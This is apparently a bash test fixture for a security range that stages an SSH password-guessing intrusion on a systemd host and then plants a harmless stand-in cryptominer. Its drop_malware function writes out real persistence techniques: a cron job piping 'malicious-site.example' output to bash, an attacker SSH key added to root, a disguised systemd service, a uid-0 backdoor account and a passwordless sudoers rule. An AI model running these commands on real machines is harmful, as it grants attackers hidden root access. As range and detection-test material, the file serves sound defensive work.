# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash
#
# The incident on a systemd host, to be sourced after systemd-host.sh:
#
#   stage_attack        on a host that is up: what is honest is laid, then an attacker guesses
#                       root's password over the cable, logs in, and does what attackers do
#
# Everything is real: sshd writes the log through the system's own logger, cron and systemd
# start what is started. All that runs is a harmless stand-in (miner.c), which ends by itself.
# Afterwards $keys/{operator,attacker} are keys, and $operator_pid and $attacker_pid clients that
# are logged in.

attacker=203.0.113.67
operator=198.51.100.10
host=192.168.1.100
keys=/run/range/keys
ssh_options=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
	-o ControlMaster=no -o ControlPath=none)

# with_password ADDRESS PASSWORD [COMMAND...]: root from there, who types the password. Whoever expects
# that there is no answer sets $ssh_patience, in seconds.
with_password() {
	local from=$1 askpass=/run/range/askpass-$2
	printf '#!/bin/sh\necho %q\n' "$2" >"$askpass"
	chmod 0700 "$askpass"
	shift 2
	SSH_ASKPASS=$askpass SSH_ASKPASS_REQUIRE=force ssh "${ssh_options[@]}" -o "ConnectTimeout=${ssh_patience:-60}" -b "$from" \
		-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 root@$host "$@"
}

# with_key ADDRESS KEY USER [COMMAND...]
with_key() {
	local from=$1 key=$2 user=$3
	shift 3
	ssh "${ssh_options[@]}" -o "ConnectTimeout=${ssh_patience:-60}" -b "$from" -i "$keys/$key" -o BatchMode=yes \
		-o IdentitiesOnly=yes "$user@$host" "$@"
}

lay_honest_host() {
	mkdir -p $keys
	ssh-keygen -q -t ed25519 -N '' -C operator@desk -f $keys/operator
	ssh-keygen -q -t ed25519 -N '' -C root@malicious-site.example -f $keys/attacker
	on_host useradd --create-home --shell /bin/bash --password '*' --gid operator --groups sudo operator
	on_host useradd --system --shell /usr/sbin/nologin --home-dir /var/lib/mysql --create-home mysql
	on_host sh -c 'echo root:summer24 | chpasswd'
	install -d -m 0700 $host_root/home/operator/.ssh $host_root/root/.ssh
	install -m 0600 $keys/operator.pub $host_root/home/operator/.ssh/authorized_keys
	install -m 0600 $keys/operator.pub $host_root/root/.ssh/authorized_keys
	on_host chown -R operator:operator /home/operator
	printf '%s\n' 'PermitRootLogin yes' 'PasswordAuthentication yes' >$host_root/etc/ssh/sshd_config.d/50-cloud-init.conf
	printf '%s\n' '# m h  dom mon dow   command' '30 2 * * * /usr/local/sbin/backup --all' |
		on_host crontab -
	install -m 0755 "$TOP_BUILDDIR/tests/range/sleeper" $host_root/usr/sbin/mysqld
	printf '%s\n' '[Unit]' 'Description=database' '[Service]' 'User=mysql' "Environment=RANGE_DEADLINE=$RANGE_DEADLINE" \
		'ExecStart=/usr/sbin/mysqld' '[Install]' 'WantedBy=multi-user.target' >$host_root/etc/systemd/system/mysqld.service
	on_host systemctl daemon-reload
	on_host systemctl -q enable --now mysqld.service
	on_host systemctl restart ssh.service
	RANGE_DEADLINE=$RANGE_DEADLINE setsid --fork "$TOP_BUILDDIR/tests/range/listener" $attacker 3333 </dev/null >/dev/null 2>&1
}

# Several at a time, as they do it: sshd makes each wrong one wait.
guess() {
	local guess guessers=()
	for guess; do
		with_password $attacker "$guess" true >/dev/null 2>&1 &
		guessers+=($!)
	done
	for guess in "${guessers[@]}"; do wait "$guess" && bail_out "that was not the password"; done
}

# sshd answers before it logs: what was guessed wrong is to be in the log before he gets in.
guesses_are_logged() {
	[ "$(grep -c "Failed password for root from $attacker " $host_root/var/log/auth.log)" -ge "$1" ]
}

guess_password() {
	guess 123456 password root toor admin qwerty
	guess letmein changeme mysql server summer winter
	await guesses_are_logged 12 || bail_out "the log does not have what the attacker has guessed"
	with_password $attacker summer24 true || bail_out "the attacker does not get in"
}

# The commands come in at the standard input of a shell of the attacker's login.
drop_malware() {
	with_password $attacker summer24 'cat >/usr/local/bin/xmrig && chmod 755 /usr/local/bin/xmrig' \
		<"$TOP_BUILDDIR/tests/range/miner" || bail_out "the malware is not dropped"
	with_password $attacker summer24 sh -s <<-END || bail_out "the attacker does not get far"
	set -e
	umask 022
	echo '$(cat $keys/attacker.pub)' >>/root/.ssh/authorized_keys
	printf '#!/bin/sh\n# inert: nothing runs this\nexec /usr/local/bin/xmrig -o $attacker:3333 -w\n' >/tmp/malicious.sh
	chmod 777 /tmp/malicious.sh
	printf '#!/bin/sh\n/tmp/malicious.sh >/dev/null 2>&1\n' >/etc/cron.hourly/malicious
	chmod 755 /etc/cron.hourly/malicious
	{ crontab -l; echo '*/5 * * * * wget -qO- http://malicious-site.example/m.sh | bash'; } | crontab -
	echo 'export PS1; /usr/local/bin/xmrig -o $attacker:3333 2>/dev/null &' >/etc/profile.d/zz.sh
	printf '[Unit]\nDescription=Kernel thread helper\n[Service]\nEnvironment=RANGE_DEADLINE=$RANGE_DEADLINE\nExecStart=/usr/local/bin/xmrig -o $attacker:3333\nRestart=always\nRestartSec=1\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/kthreadd.service
	systemctl daemon-reload
	systemctl -q enable --now kthreadd.service
	RANGE_DEADLINE=$RANGE_DEADLINE setsid --fork /usr/local/bin/xmrig -o $attacker:3333 -w </dev/null >/dev/null 2>&1
	useradd --non-unique --uid 0 --gid 0 --no-create-home --home-dir /var/tmp/.x --shell /bin/bash support
	echo support:support | chpasswd
	echo 'support ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-support
	chmod 440 /etc/sudoers.d/90-support
	END
}

mines() {
	[ "$(on_host ss -Htn state established dst $attacker | wc -l)" -ge 2 ] && on_host pgrep -x xmrig &&
		on_host pgrep -x syslog-helper && on_host pgrep -x dbus-helper
}

operator_is_in() {
	on_host pgrep -u operator -x sleep
}

attacker_is_in() {
	on_host pgrep -u root -x sleep
}

stage_attack() {
	RANGE_DEADLINE=$(($(date +%s) + ${range_seconds:-600}))
	lay_honest_host
	with_key $operator operator operator "exec sleep ${range_seconds:-600}" </dev/null >/dev/null 2>&1 &
	operator_pid=$!
	await operator_is_in || bail_out "the operator does not get in"
	guess_password
	drop_malware
	await mines || bail_out "the miner does not start"
	with_key $attacker attacker root "exec sleep ${range_seconds:-600}" </dev/null >/dev/null 2>&1 &
	attacker_pid=$!
	await attacker_is_in || bail_out "the attacker's key is not taken"
}
